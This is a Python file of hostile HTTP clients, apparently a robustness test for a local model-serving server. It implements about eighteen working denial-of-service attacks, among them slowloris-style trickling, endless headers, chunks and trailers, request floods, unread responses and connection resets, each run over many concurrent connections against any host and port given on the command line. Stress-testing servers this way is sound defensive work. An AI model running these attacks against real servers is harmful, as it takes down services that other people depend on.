"""Clients that mean harm, or break off: each attacks an address until it is told to stop."""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

Address = tuple[str, int]


@dataclass
class Target:
    """Whom to attack, and how: with a key where one is needed to get further."""

    address: Address
    key: str = ""
    connections: int = 100
    stop: threading.Event = field(default_factory=threading.Event)

    def connect(self, *, narrow: bool = False) -> socket.socket:
        connection = socket.socket()
        if narrow:  # what is not read is soon too much
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.settimeout(5)
        connection.connect(self.address)
        return connection

    def head(self, path: str = "/predict", *headers: str, method: str = "POST") -> bytes:
        key = [f"Authorization: Bearer {self.key}"] if self.key else []
        lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json", *key, *headers]
        return "\r\n".join([*lines, "", ""]).encode()

    def request(self, body: object, path: str = "/predict") -> bytes:
        raw = json.dumps(body).encode()
        return self.head(path, f"Content-Length: {len(raw)}") + raw

    def each(self, talk: Callable[[socket.socket], Iterator[None]], *, narrow: bool = False) -> None:
        """So many connections at once, one thread for all, each made anew when it ends; `talk` yields between sends."""
        talks: list[tuple[socket.socket, Iterator[None]]] = []
        while not self.stop.is_set():
            while len(talks) < self.connections and not self.stop.is_set():
                with contextlib.suppress(OSError):
                    connection = self.connect(narrow=narrow)
                    connection.setblocking(False)
                    talks.append((connection, talk(connection)))
            talks = [each for each in talks if _goes_on(*each)]
            self.stop.wait(0.005)
        for connection, _ in talks:
            connection.close()


def _goes_on(connection: socket.socket, talk: Iterator[None]) -> bool:
    try:
        next(talk)
    except BlockingIOError:
        return True
    except (StopIteration, OSError):
        connection.close()
        return False
    return True


def endless(target: Target, start: bytes, part: bytes, *, narrow: bool = False) -> None:
    """Begins so, and goes on with the same for ever, as fast as it is taken."""

    def talk(connection: socket.socket) -> Iterator[None]:
        connection.send(start)
        while True:
            with contextlib.suppress(BlockingIOError):
                connection.send(part)
            yield

    target.each(talk, narrow=narrow)


def once(target: Target, message: bytes, *, reads: bool = False) -> None:
    """Sends this and then nothing; the answer is read, or not."""

    def talk(connection: socket.socket) -> Iterator[None]:
        left = message
        while left:
            with contextlib.suppress(BlockingIOError):
                left = left[connection.send(left) :]
            yield
        while True:
            if reads and connection.recv(65_536) == b"":
                return
            yield

    target.each(talk, narrow=not reads)


def reset(target: Target) -> None:
    """Asks, and resets the connection without a word."""
    message = target.request({"inputs": "a"})

    def talk(connection: socket.socket) -> Iterator[None]:
        connection.send(message)
        yield
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    target.each(talk)


STREAM = {"inputs": ["a b"] * 16, "min_length": 120, "max_length": 120, "stream": True, "model": "writer"}
CHUNKED = "Transfer-Encoding: chunked"
ATTACKS: dict[str, Callable[[Target], None]] = {
    "silence": lambda t: once(t, b""),
    "heads that trickle": lambda t: endless(t, b"GET /live HTTP/1.1\r\n", b"x"),
    "endless URLs": lambda t: endless(t, b"GET /", b"a" * 8192),
    "endless headers": lambda t: endless(t, b"GET /live HTTP/1.1\r\n", b"a: " + b"b" * 2000 + b"\r\n"),
    "many small headers": lambda t: endless(t, b"GET /live HTTP/1.1\r\n", b"a:\r\n" * 500),
    "bodies that trickle": lambda t: endless(t, t.head("/predict", "Content-Length: 9999"), b"x"),
    "endless bodies": lambda t: endless(t, t.head("/predict", CHUNKED), b"1000\r\n" + b"a" * 4096 + b"\r\n"),
    "bodies of tiny chunks": lambda t: endless(t, t.head("/predict", CHUNKED), b"1\r\na\r\n" * 800),
    "endless chunk extensions": lambda t: endless(t, t.head("/predict", CHUNKED) + b"1;", b"a" * 4096),
    "endless trailers": lambda t: endless(t, t.head("/predict", CHUNKED) + b"0\r\n", b"a: " + b"b" * 2000 + b"\r\n"),
    "many small trailers": lambda t: endless(t, t.head("/predict", CHUNKED) + b"0\r\n", b"a:\r\n" * 500),
    "a body that never comes": lambda t: once(t, t.head("/predict", "Content-Length: 10", "Expect: 100-continue")),
    "ten thousand at once": lambda t: once(t, b"GET /live HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 10_000),
    "answers that nobody reads": lambda t: once(t, t.request({"inputs": ["a b " * 4000] * 3}, "/tokenize") * 20),
    "streams that nobody reads": lambda t: once(t, t.request(STREAM, "/generate") * 4),
    "small answers that nobody reads": lambda t: endless(t, b"", t.head("/docs", method="GET") * 20, narrow=True),
    "garbage": lambda t: once(t, b"\x16\x03\x01\x02\x00\x01\xfc\x03\x03" * 50 + b"\r\n\r\n", reads=True),
    "resets": reset,
}  # fmt: skip

if __name__ == "__main__":  # host, port, key, connections, attack: until standard input ends
    host, port, key, connections, name = sys.argv[1:]
    target = Target((host, int(port)), key, int(connections))
    threading.Thread(target=ATTACKS[name], args=(target,)).start()
    sys.stdin.read()
    target.stop.set()
